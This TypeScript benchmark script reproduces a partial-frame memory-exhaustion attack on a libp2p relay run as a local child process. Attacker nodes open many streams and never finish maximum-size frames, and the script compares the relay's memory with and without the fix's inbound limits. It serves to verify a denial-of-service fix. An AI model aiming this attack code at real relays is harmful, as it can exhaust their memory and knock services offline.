// First: libp2p needs Promise.withResolvers, which Node 20 lacks.
import '../../src/runtime/node-shim.ts'
import { fork } from 'node:child_process'
import type { ChildProcess } from 'node:child_process'
import { createInterface } from 'node:readline'
import { fileURLToPath } from 'node:url'
import type { Stream } from '@libp2p/interface'
import { multiaddr } from '@multiformats/multiaddr'
import { MAX_MESSAGE_BYTES } from '../../src/net/inbound-limits.ts'
import { createSlurpNode } from '../../src/net/node.ts'
import type { SlurpLibp2p } from '../../src/net/node.ts'
import { RECORD_PROTOCOL } from '../../src/net/record-messages.ts'
import { SYNC_PROTOCOL } from '../../src/replication/sync-messages.ts'

/**
 * Issue 10 finding 2, as an attacker would run it: a relay in a child process,
 * and 1 then 3 connections (each its own peer id) that open every stream the
 * relay allows on both request protocols and send the start of a maximum-size
 * frame on each, never its end. Prints the relay's RSS before, at its peak and
 * after, and what its partial-frame budget held.
 *
 *   node --conditions=slurp-source --import tsx bench/attack/partial-frames.ts [--unbounded] [--streams 64]
 *
 * --unbounded lifts the relay's inbound limits (how frames were read before
 * the fix), for comparison.
 */
const CHILD = fileURLToPath(new URL('./relay-child.ts', import.meta.url))
const MiB = 1024 * 1024
const args = process.argv.slice(2)
const unbounded = args.includes('--unbounded')
const streamsPerProtocol = Number(args[args.indexOf('--streams') + 1] ?? 64) || 64
const PIECE = 64 * 1024

interface Measure { rss: number, peakRss: number, budget: number, partialHeld: number, partialPeak: number, resets: Record<string, number> }

async function startRelay (): Promise<{ child: ChildProcess, address: string }> {
  const child = fork(CHILD, unbounded ? ['--unbounded'] : [], {
    execArgv: [...process.execArgv, '--expose-gc'],
    stdio: ['ignore', 'pipe', 'inherit', 'ipc']
  })
  const line = await new Promise<string>((resolve, reject) => {
    createInterface({ input: child.stdout! }).once('line', resolve)
    child.once('exit', code => { reject(new Error(`the relay exited with ${String(code)}`)) })
  })
  const { peerId, multiaddr: address } = JSON.parse(line) as { peerId: string, multiaddr: string }
  return { child, address: address.includes('/p2p/') ? address : `${address}/p2p/${peerId}` }
}

async function measure (child: ChildProcess, message = 'measure'): Promise<Measure> {
  const answer = new Promise<Measure>(resolve => { child.once('message', value => { resolve(value as Measure) }) })
  child.send(message)
  return await answer
}

/** One frame begun on `stream`: a prefix for `frameBytes`, then as much of the body as the relay takes, never the end. */
async function sendPartialFrame (stream: Stream, frameBytes: number): Promise<number> {
  const prefix: number[] = []
  let rest = frameBytes
  while (rest >= 0x80) { prefix.push((rest & 0x7f) | 0x80); rest = Math.floor(rest / 128) }
  prefix.push(rest)
  let sent = 0
  try {
    if (!stream.send(Uint8Array.from(prefix))) await stream.onDrain({ signal: AbortSignal.timeout(10_000) })
    const piece = new Uint8Array(PIECE).fill(0x5a)
    while (sent + PIECE < frameBytes && stream.status === 'open') {
      sent += PIECE
      if (!stream.send(piece)) await stream.onDrain({ signal: AbortSignal.timeout(10_000) })
    }
  } catch {
    // Reset by the relay, or stalled: either way this stream is done.
  }
  return sent
}

async function attack (child: ChildProcess, address: string, connections: number, frameBytes: number): Promise<{ streams: number, reset: number, sentMiB: number }> {
  const attackers: SlurpLibp2p[] = []
  for (let i = 0; i < connections; i++) {
    const node = await createSlurpNode({ kind: 'peer', listen: [] })
    await node.start()
    await node.dial(multiaddr(address))
    attackers.push(node)
  }
  const streams: Stream[] = []
  for (const node of attackers) {
    for (const protocol of [RECORD_PROTOCOL, SYNC_PROTOCOL]) {
      for (let i = 0; i < streamsPerProtocol; i++) {
        try {
          streams.push(await node.dialProtocol(multiaddr(address), protocol, { signal: AbortSignal.timeout(10_000) }))
        } catch {
          break
        }
      }
    }
  }
  const sent = await Promise.all(streams.map(async stream => await sendPartialFrame(stream, frameBytes)))
  // Until the relay has read what was queued: what it holds stops changing (at most 60 s).
  let last = -1
  for (let i = 0; i < 120; i++) {
    await new Promise(resolve => setTimeout(resolve, 500))
    const { partialHeld } = await measure(child)
    if (partialHeld === last) break
    last = partialHeld
  }
  const reset = streams.filter(stream => stream.status !== 'open').length
  ;(attack as { attackers?: SlurpLibp2p[] }).attackers = attackers
  return { streams: streams.length, reset, sentMiB: sent.reduce((a, b) => a + b, 0) / MiB }
}

async function stopAttackers (): Promise<void> {
  const attackers = (attack as { attackers?: SlurpLibp2p[] }).attackers ?? []
  await Promise.all(attackers.map(async node => { await node.stop() }))
}

const mb = (bytes: number): string => `${(bytes / 1e6).toFixed(0)} MB`
console.log(`partial-frame attack on a relay (${unbounded ? 'limits lifted: how frames were read before the fix' : 'default inbound limits'}), ${streamsPerProtocol} streams per protocol per connection`)
// Frames of the largest size a channel carries, and of the largest a stranger may send (one 1 MiB record).
for (const [frameBytes, connections] of [[MAX_MESSAGE_BYTES, 1], [MAX_MESSAGE_BYTES, 3], [MiB, 1], [MiB, 3]] as const) {
  const { child, address } = await startRelay()
  await new Promise(resolve => setTimeout(resolve, 500))
  const before = await measure(child, 'reset-peak')
  const started = Date.now()
  const result = await attack(child, address, connections, frameBytes)
  const during = await measure(child)
  await stopAttackers()
  await new Promise(resolve => setTimeout(resolve, 1000))
  const after = await measure(child, 'gc')
  console.log([
    `${connections} connection${connections === 1 ? '' : 's'}, frames of ${frameBytes / MiB} MiB: ${result.streams} streams, ${result.reset} reset by the relay, ${result.sentMiB.toFixed(0)} MiB queued by the attackers in ${((Date.now() - started) / 1000).toFixed(1)} s`,
    `  relay RSS before ${mb(before.rss)}, peak ${mb(during.peakRss)} (+${mb(during.peakRss - before.rss)}), under attack ${mb(during.rss)}, after the attackers left ${mb(after.rss)}`,
    `  partial-frame budget ${Number.isFinite(during.budget) ? mb(during.budget) : 'none'}: held at most ${mb(during.partialPeak)}, ${mb(during.partialHeld)} while attacked; resets ${JSON.stringify(during.resets)}`
  ].join('\n'))
  child.send('stop')
  await new Promise(resolve => child.once('exit', resolve))
}
